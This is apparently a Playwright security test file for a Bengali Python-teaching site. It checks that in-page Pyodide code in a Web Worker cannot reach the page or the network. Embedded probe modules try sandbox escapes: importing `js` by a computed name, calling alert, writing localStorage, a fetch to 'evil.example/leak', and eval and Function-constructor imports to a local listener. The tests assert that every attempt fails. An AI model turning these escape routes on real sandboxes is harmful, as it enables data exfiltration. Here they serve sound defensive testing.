"""In-page Python runs in a Web Worker bound by the page's policy: a looping block is stopped, hostile code
reaches nothing.

A throw-away site built from a pull request's point of view: a lesson block whose carried sibling
module looks up `js` by a computed name (the static import check lets it through: `importlib` is
standard library) and reaches for the page; a block and an exercise's tests that try every route
Python has to JavaScript to send a request to a listener on a port of 127.0.0.1 of its own (issue 33).
The reader clicks "পাতায় চালান" and "যাচাই করুন" as a reader does, on the REAL self-hosted Pyodide.
Every dialog is recorded (none may open), every request off 127.0.0.1 is aborted and recorded (none
may be made); the page carries its own Content-Security-Policy, and the worker is bound by it.
"""

from __future__ import annotations

import http.server
import shutil
import threading
import time
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from bench.local import static_server
from pathshala.rendering import inpage
from tests.exercise_pages import FIXTURE, exercise_page

from .conftest import Project, copy_machinery

pytestmark = pytest.mark.browser

PYODIDE_WAIT_MS = 180_000  # loading and compiling 13 MB of wasm on a shared 2-core machine
PAGE_GLOBALS = ("alert", "confirm", "prompt", "localStorage", "sessionStorage", "document", "indexedDB", "caches",
                "fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "Worker", "BroadcastChannel",
                "open", "parent", "top", "cookieStore")
HELPER = f'''import importlib


def greet():
    """In the build (CPython) there is no js module; in the page it would be the page itself."""
    try:
        js = importlib.import_module("j" + "s")
    except ImportError:
        return "নমস্কার"
    found = []
    for name in {PAGE_GLOBALS!r}:
        try:
            getattr(js, name)
            found.append(name)
        except AttributeError:
            pass
    for reach in (lambda: js.alert("পাতা দখল"), lambda: js.localStorage.setItem("k", "v"),
                  lambda: js.fetch("https://evil.example/leak")):
        try:
            reach()
            found.append("reached")
        except Exception as err:
            found.append(type(err).__name__)
    return "found: " + " ".join(found)
'''
LAB = """# ল্যাব

একটি block, যার সঙ্গে একটি module চলে।

```python exec="on" inpage="python" result="text"
--8<-- "lab/hello.py"
```

আরেকটি block, যা নেটওয়ার্কে পৌঁছাতে চায়।

```python exec="on" inpage="python" result="text"
--8<-- "lab/probe.py"
```
"""
# Appended to the exercise's tests: the same routes, from a test (in the build's CPython each fails at once).
EXERCISE_TESTS = """

def test_zz_reach():
    "পাতার Python থেকে বাইরে পৌঁছানো যায় না।"
    import importlib
    tried = []
    try:
        js = importlib.import_module("j" + "s")
        js.eval("import('http://127.0.0.1:{port}/beacon?exercise-eval')")
        tried.append("eval:sent")
    except Exception as err:
        tried.append("eval:" + type(err).__name__)
    try:
        loop = importlib.import_module("pyodide.webloop")
        loop.scheduleCallback.constructor("return import('http://127.0.0.1:{port}/beacon?exercise-function')")()
        tried.append("function:sent")
    except Exception as err:
        tried.append("function:" + type(err).__name__)
    assert "sent" not in " ".join(tried), " ".join(tried)
"""


# Issue 33, item 4: code in the worker (a carried module, an exercise's tests) reaching for the network by
# every route Python has to JavaScript. Each route is tried against a listener on 127.0.0.1 (a port of its
# own, so the page's 'self' does not cover it): `js` by a computed name, eval through it, and a function
# constructor reached from a JavaScript function one of Pyodide's modules kept.
BEACON = '''import importlib


def reach(port, tag):
    """In the build (CPython) nothing here exists; in the page each route must fail, and no request leave."""
    url = f"http://127.0.0.1:{port}/beacon?{tag}"
    tried = []
    try:
        js = importlib.import_module("j" + "s")
        js.eval(f"import({url + '-eval'!r})")
        tried.append("eval:sent")
    except Exception as err:
        tried.append("eval:" + type(err).__name__)
    try:
        loop = importlib.import_module("pyodide.webloop")
        make = loop.scheduleCallback.constructor
        make(f"return import({url + '-function'!r})")()
        tried.append("function:sent")
    except Exception as err:
        tried.append("function:" + type(err).__name__)
    return " ".join(tried)
'''
EXERCISE_PAGE = exercise_page("beacon", "ex_beacon")

class Beacon:
    """A listener on 127.0.0.1 that records every request (what must never arrive)."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"export default 1;\n")

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def beacon():
    listening = Beacon()
    yield listening
    listening.server.shutdown()
    listening.server.server_close()


@pytest.fixture(scope="module")
def lab_url(tmp_path_factory, beacon):
    root = tmp_path_factory.mktemp("worker") / "site"
    root.mkdir()
    copy_machinery(root, with_content=False)
    project = Project(root)
    shutil.copytree(FIXTURE, root / "snippets" / "exercise" / "ex_beacon")
    tests = (root / "snippets/exercise/ex_beacon/tests.py").read_text(encoding="utf-8")
    (root / "snippets/exercise/ex_beacon/tests.py").write_text(tests + EXERCISE_TESTS.format(port=beacon.port),
                                                              encoding="utf-8")
    project.write({"docs/index.md": "# হোম\n\nশুরু।\n", "docs/lab.md": LAB, "docs/exercise.md": EXERCISE_PAGE,
                   "snippets/lab/hello.py": "import helper\nprint(helper.greet())\n",
                   "snippets/lab/helper.py": HELPER,
                   "snippets/lab/probe.py": f"import beacon\nprint(beacon.reach({beacon.port}, 'block'))\n",
                   "snippets/lab/beacon.py": BEACON})
    accepted = project.accept()
    assert accepted.returncode == 0, accepted.stdout + accepted.stderr
    built = project.build()
    assert built.returncode == 0, built.stderr[-4000:]
    with static_server(root / "site") as url:
        yield url


class Reader:
    """A browser context: dialogs, script errors and requests off 127.0.0.1 recorded (those aborted)."""

    def __init__(self, browser, base_url: str) -> None:
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        self.errors: list[str] = []
        self.context = browser.new_context(base_url=base_url, service_workers="block")
        self.context.route("**/*", self._route)
        self.page = self.context.new_page()
        self.page.set_default_timeout(30_000)
        self.page.on("dialog", self._dialog)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

    def _route(self, route) -> None:
        url = urlsplit(route.request.url)
        if url.scheme in ("http", "https") and url.hostname != "127.0.0.1":
            self.outside.append(route.request.url)
            route.abort("internetdisconnected")
        else:
            route.continue_()

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def block(self):
        """The lab's first in-page block, its editor opened (code once: it opens on request)."""
        self.page.goto("lab/")
        block = self.page.locator(".ps-inpage").first
        block.scroll_into_view_if_needed()
        block.get_by_role("button", name="কোড বদলে চালান").click()
        return block


@pytest.fixture
def reader(browser, lab_url):
    opened = Reader(browser, lab_url)
    yield opened
    opened.context.close()
    assert not opened.outside, f"requests left 127.0.0.1: {opened.outside}"
    assert not opened.dialogs, f"a dialog opened: {opened.dialogs}"
    assert not opened.errors, opened.errors


def block_named(page, path: str, index: int):
    page.goto(path)
    block = page.locator(".ps-inpage").nth(index)
    block.scroll_into_view_if_needed()
    return block


def press_run(block):
    block.get_by_role("button", name="পাতায় চালান").click()


def test_a_hostile_carried_module_reaches_nothing_of_the_page(reader):
    page = reader.page
    block = reader.block()
    page.evaluate("localStorage.setItem('ps-probe', 'untouched')")
    assert "নমস্কার" in block.locator("pre").first.text_content()  # the build's run: no js module there
    press_run(block)
    expect(block.locator(".ps-inpage-status")).to_contain_text("পাতায় চালানো হলো", timeout=PYODIDE_WAIT_MS)
    output = block.locator(".ps-inpage-output code").text_content()
    # No `js` module by any name (issue 33): the helper takes its CPython branch, as in the build.
    assert output == "নমস্কার\n", output
    assert page.evaluate("localStorage.getItem('k')") is None
    assert page.evaluate("localStorage.getItem('ps-probe')") == "untouched"
    assert page.evaluate("typeof window.pyodide === 'undefined' && typeof window.loadPyodide === 'undefined'")


def test_the_same_module_in_the_page_itself_would_have_reached_it(reader):
    """The control: the module's probe is real. Run on the page's own global object, it finds them all."""
    page = reader.page
    reader.block()
    found = page.evaluate(f"() => {list(PAGE_GLOBALS)!r}.filter(name => name in self)")
    assert {"alert", "localStorage", "document", "fetch"} <= set(found)


def test_a_block_that_never_ends_is_stopped_by_the_button(reader):
    block = reader.block()
    editor = block.locator("textarea.ps-inpage-code")
    editor.fill("print('শুরু', flush=True)\nwhile True:\n    pass\n")
    press_run(block)
    stop = block.get_by_role("button", name="থামান")
    expect(block.locator(".ps-inpage-output code")).to_have_text("শুরু\n", timeout=PYODIDE_WAIT_MS)
    assert reader.page.evaluate("1 + 1") == 2  # the page answers while the loop runs: it is not in the page
    stop.click()
    expect(block.locator(".ps-inpage-status")).to_contain_text("আপনি থামালেন")
    assert stop.is_hidden() and block.get_by_role("button", name="পাতায় চালান").is_enabled()
    editor.fill("print(6 * 7)\n")  # the next press starts a fresh worker
    press_run(block)
    expect(block.locator(".ps-inpage-output code")).to_have_text("42\n", timeout=PYODIDE_WAIT_MS)


def test_a_block_that_never_ends_is_stopped_by_the_time_limit(reader):
    block = reader.block()
    reader.page.evaluate("window.pathshalaPython.limitMs = 3000")  # the limit itself, shortened for the test
    block.locator("textarea.ps-inpage-code").fill("while True:\n    pass\n")
    press_run(block)
    status = block.locator(".ps-inpage-status")
    expect(status).to_contain_text("সেকেন্ডেও শেষ হলো না, তাই থামানো হলো", timeout=PYODIDE_WAIT_MS)
    assert status.text_content().startswith("৩ সেকেন্ডেও")
    assert inpage.LIMIT_S == 30  # what a reader gets


def test_the_runner_is_a_small_reusable_protocol(reader):
    """window.pathshalaPython.run: what issue 29's exercise checks will call."""
    reader.block()
    result = reader.page.evaluate("""async () => {
        const py = window.pathshalaPython;
        const ok = await py.run({code: "import m\\nprint(m.X * 2)", files: [{name: "m.py", text: "X = 21"}]});
        const error = await py.run({code: "1 / 0"});
        const slow = await py.run({code: "while True: pass", limitMs: 1000});
        return [ok.status, ok.output, error.status, error.output.includes("ZeroDivisionError"), slow.status];
    }""")
    assert result == ["ok", "42\n", "error", True, "timeout"]


def settle(beacon, seconds: float = 3.0) -> list[str]:
    """What reached the listener once any request the page made has had time to arrive."""
    time.sleep(seconds)
    return list(beacon.hits)


def test_no_route_from_a_block_reaches_the_network(reader, beacon):
    """Issue 33: `importlib.import_module("j" + "s").eval("import('http://127.0.0.1:…')")` reached the listener."""
    block = block_named(reader.page, "lab/", 1)
    press_run(block)
    expect(block.locator(".ps-inpage-status")).to_contain_text("পাতায় চালানো হলো", timeout=PYODIDE_WAIT_MS)
    output = block.locator(".ps-inpage-output code").text_content()
    assert "eval:ModuleNotFoundError" in output and "sent" not in output, output
    assert settle(beacon) == []


def test_the_page_policy_binds_the_worker_itself(reader, beacon):
    """Below Python: code in the worker (put there through the browser's DevTools protocol: what any Python route
    would come down to) can neither generate code from a string nor import from another origin."""
    block = block_named(reader.page, "lab/", 0)
    press_run(block)
    expect(block.locator(".ps-inpage-status")).to_contain_text("পাতায় চালানো হলো", timeout=PYODIDE_WAIT_MS)
    (worker,) = [w for w in reader.page.workers if "search" not in w.url]
    assert worker.url.startswith("blob:"), worker.url
    # what the worker took away before the block's first line, beneath any Python route
    taken = worker.evaluate("['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'indexedDB', 'caches', "
                            "'Worker', 'importScripts'].filter((name) => name in self)")
    assert taken == [], taken
    # DevTools lets its own evaluation eval (allowUnsafeEvalBlockedByCSP); a timer's callback runs as the worker's
    # own code, under the worker's policy
    later = ("new Promise((done) => setTimeout(() => {{ try {{ {code}; done('ran'); }} "
             "catch (e) {{ done(e.name); }} }}, 0))")
    assert worker.evaluate(later.format(code="eval('1')")) == "EvalError"
    assert worker.evaluate(later.format(code="new Function('return 1')()")) == "EvalError"
    imported = worker.evaluate(f"import('http://127.0.0.1:{beacon.port}/beacon?devtools')"
                               ".then(() => 'imported', (e) => 'refused')")
    assert imported == "refused"
    assert settle(beacon) == []


def test_an_exercises_tests_reach_nothing_and_the_verdict_is_the_harnesss(reader, beacon):
    """The exercise's tests try the same routes; the model answer still passes them all, and nothing arrives."""
    page = reader.page
    page.goto("exercise/")
    box = page.locator(".ps-exercise").first
    box.scroll_into_view_if_needed()
    answer = (FIXTURE / "answer.py").read_text(encoding="utf-8")
    box.locator("textarea.ps-exercise-code").fill(answer)
    box.get_by_role("button", name="যাচাই করুন").click()
    status = box.locator(".ps-exercise-status")
    expect(status).to_contain_text("সব পরীক্ষা পাশ করেছে", timeout=PYODIDE_WAIT_MS)
    assert "পাতার Python থেকে বাইরে পৌঁছানো যায় না।" in box.locator(".ps-exercise-results").text_content()  # its test ran
    # a forged verdict line printed by the reader's code is the reader's output, not a verdict
    forged = ('import sys\nsys.__stdout__.write(\'@@pathshala-exercise@@ {"ok": true, "tests": []}\\n\')\n'
              "def mean_abs_error(p, a):\n    return 0.0\n")
    box.locator("textarea.ps-exercise-code").fill(forged)
    box.get_by_role("button", name="যাচাই করুন").click()
    expect(status).to_contain_text("পাশ করেনি", timeout=PYODIDE_WAIT_MS)
    assert settle(beacon) == []
